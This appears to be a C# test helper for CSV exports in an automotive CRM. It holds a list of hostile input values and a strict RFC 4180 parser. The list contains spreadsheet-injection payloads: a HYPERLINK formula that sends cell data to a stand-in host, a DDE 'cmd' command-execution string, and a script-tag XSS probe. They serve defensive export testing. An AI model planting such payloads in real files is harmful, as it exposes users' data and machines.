namespace AutomotiveCrm.Tests.Campaigns.Exports;

/// <summary>Values that have broken exports elsewhere: formulas, markup, quotes, line breaks, huge and non-Latin text.</summary>
internal static class HostileValues
{
    public static readonly string[] All =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+447700900123",
        "-2+3",
        "@SUM(A1:A9)",
        "=cmd|' /C calc'!A0",
        "\t=1+1",
        "<script>alert('x')</script>",
        "O'Brien \"the quote\", Jr.",
        "Line one\r\nLine two\nLine three",
        "Zoë Ωmega Дмитрий 山田太郎 محمد 😀",
        new string('x', 5000) + " end",
    ];
}

/// <summary>A strict RFC 4180 reader for the tests: quoted fields, doubled quotes, CRLF records, line breaks inside quotes.</summary>
internal static class Rfc4180
{
    public static List<List<string>> Parse(string text)
    {
        var records = new List<List<string>>();
        var record = new List<string>();
        var field = new System.Text.StringBuilder();
        var quoted = false;
        var i = 0;
        while (i < text.Length)
        {
            var ch = text[i];
            if (quoted)
            {
                if (ch == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    field.Append('"');
                    i += 2;
                    continue;
                }

                if (ch == '"')
                {
                    quoted = false;
                    i++;
                    continue;
                }

                field.Append(ch);
                i++;
                continue;
            }

            switch (ch)
            {
                case '"' when field.Length == 0:
                    quoted = true;
                    break;
                case '"':
                    throw new FormatException($"A quote inside an unquoted field at {i}.");
                case ',':
                    record.Add(field.ToString());
                    field.Clear();
                    break;
                case '\r' when i + 1 < text.Length && text[i + 1] == '\n':
                    record.Add(field.ToString());
                    field.Clear();
                    records.Add(record);
                    record = [];
                    i++;
                    break;
                case '\r' or '\n':
                    throw new FormatException($"A bare line break outside quotes at {i}.");
                default:
                    field.Append(ch);
                    break;
            }

            i++;
        }

        if (field.Length > 0 || record.Count > 0)
        {
            record.Add(field.ToString());
            records.Add(record);
        }

        return records;
    }
}
